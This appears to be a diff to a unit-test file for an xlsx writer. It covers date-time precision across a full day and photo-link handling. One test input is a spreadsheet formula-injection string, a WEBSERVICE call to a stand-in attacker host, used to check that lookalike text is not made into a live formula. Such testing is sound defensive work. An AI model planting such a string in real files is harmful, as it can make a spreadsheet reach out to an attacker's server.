@@ -5,7 +5,7 @@ import { strFromU8, unzipSync } from 'fflate';
 import { describe, expect, test } from 'vitest';
 import { randomFrom } from '../../testing/random.ts';
 import { readCsv } from '../../testing/read-csv.ts';
-import { csvCells } from './csv-cells.ts';
+import { csvCells, type Row } from './csv-cells.ts';
 import type { Column, TableRows } from './table.ts';
 import { type Book, writeXlsx } from './xlsx.ts';
 
@@ -62,12 +62,28 @@ describe('a sheet', () => {
     const sheet = read(bytes, { cellNF: true }).Sheets.Reports as WorkSheet;
     expect(cellsOf(sheets.Sheets.Reports)).toEqual([
       ['id', 'pin', 'seen', 'again', 'photo'],
-      [7, '007', 46091 + 50_759 / 86_400, 'No', null],
+      [7, '007', expect.closeTo(46091 + 50_759 / 86_400, 9), 'No', null],
       [8, null, 36525, 1, null],
     ]);
     expect([sheet.A2.t, sheet.B2.t, sheet.C2.t]).toEqual(['n', 's', 'n']);
     expect(sheet.C2.z).toBe('dd/mm/yyyy\\ hh:mm:ss');
     expect(sheet.B2.z).toBe('@');
+  });
+
+  test('has each second of a day, also where a reader cuts its time off', async () => {
+    const clocks = Array.from({ length: 1440 }, (_, at) => at * 60 + ((at * 7) % 60));
+    const two = (number: number) => String(number).padStart(2, '0');
+    const rows = clocks.map((clock) => {
+      const [hour, minute, second] = [
+        Math.floor(clock / 3600),
+        Math.floor(clock / 60) % 60,
+        clock % 60,
+      ];
+      return ['1', 'a', `10/03/2026 ${two(hour)}:${two(minute)}:${two(second)}`, 'No', null];
+    });
+    const { sheets } = await fileOf(rows);
+    const [, ...found] = cellsOf(sheets.Sheets.Reports);
+    expect(found.map((row) => Math.floor((Number(row[2]) - 46091) * 86_400))).toEqual(clocks);
   });
 
   test.each([
@@ -133,7 +149,7 @@ describe('a sheet', () => {
   });
 
   test('links a photo, but nothing that only looks like one', async () => {
-    const linkOf = ([id]: readonly string[]) => `https://example.org/report?report=${id}&x=1`;
+    const linkOf = (row: Row) => `https://example.org/report?report=${row.text(0)}&x=1`;
     const evil = '"&WEBSERVICE("https://evil.example.org")&"';
     const { sheets } = await fileOf(
       [
